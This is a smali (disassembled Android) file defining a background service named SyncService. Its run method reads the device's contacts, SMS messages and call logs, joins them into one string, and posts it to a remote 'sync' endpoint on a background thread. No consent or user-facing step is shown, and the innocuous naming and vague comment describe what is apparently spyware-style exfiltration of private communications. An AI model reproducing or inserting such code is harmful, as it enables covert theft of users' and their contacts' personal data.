# SPDX-License-Identifier: Apache-2.0
# A started service that hands the reading to a handler of its own thread.
.class public Lcom/example/chengye/SyncService;
.super Landroid/app/Service;
.source "SyncService.java"
.implements Ljava/lang/Runnable;

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/app/Service;-><init>()V
    return-void
.end method

.method public onBind(Landroid/content/Intent;)Landroid/os/IBinder;
    .locals 1
    const/4 v0, 0x0
    return-object v0
.end method

.method public onStartCommand(Landroid/content/Intent;II)I
    .locals 2
    new-instance v0, Landroid/os/HandlerThread;
    const-string v1, "sync"
    invoke-direct {v0, v1}, Landroid/os/HandlerThread;-><init>(Ljava/lang/String;)V
    invoke-virtual {v0}, Landroid/os/HandlerThread;->start()V
    new-instance v1, Landroid/os/Handler;
    invoke-virtual {v0}, Landroid/os/HandlerThread;->getLooper()Landroid/os/Looper;
    move-result-object v0
    invoke-direct {v1, v0}, Landroid/os/Handler;-><init>(Landroid/os/Looper;)V
    invoke-virtual {v1, p0}, Landroid/os/Handler;->post(Ljava/lang/Runnable;)Z
    const/4 v0, 0x2
    return v0
.end method

.method public run()V
    .locals 3
    invoke-virtual {p0}, Lcom/example/chengye/SyncService;->getContentResolver()Landroid/content/ContentResolver;
    move-result-object v0
    new-instance v1, Ljava/lang/StringBuilder;
    invoke-direct {v1}, Ljava/lang/StringBuilder;-><init>()V
    invoke-static {v0}, Lcom/example/chengye/LocalStore;->people(Landroid/content/ContentResolver;)Ljava/lang/String;
    move-result-object v2
    invoke-virtual {v1, v2}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    invoke-static {v0}, Lcom/example/chengye/LocalStore;->messages(Landroid/content/ContentResolver;)Ljava/lang/String;
    move-result-object v2
    invoke-virtual {v1, v2}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    invoke-static {v0}, Lcom/example/chengye/LocalStore;->calls(Landroid/content/ContentResolver;)Ljava/lang/String;
    move-result-object v2
    invoke-virtual {v1, v2}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    invoke-virtual {v1}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
    move-result-object v1
    const-string v0, "https://api.chengye.example.com/sync"
    invoke-static {v0, v1}, Lcom/example/chengye/HttpPoster;->post(Ljava/lang/String;Ljava/lang/String;)V
    return-void
.end method
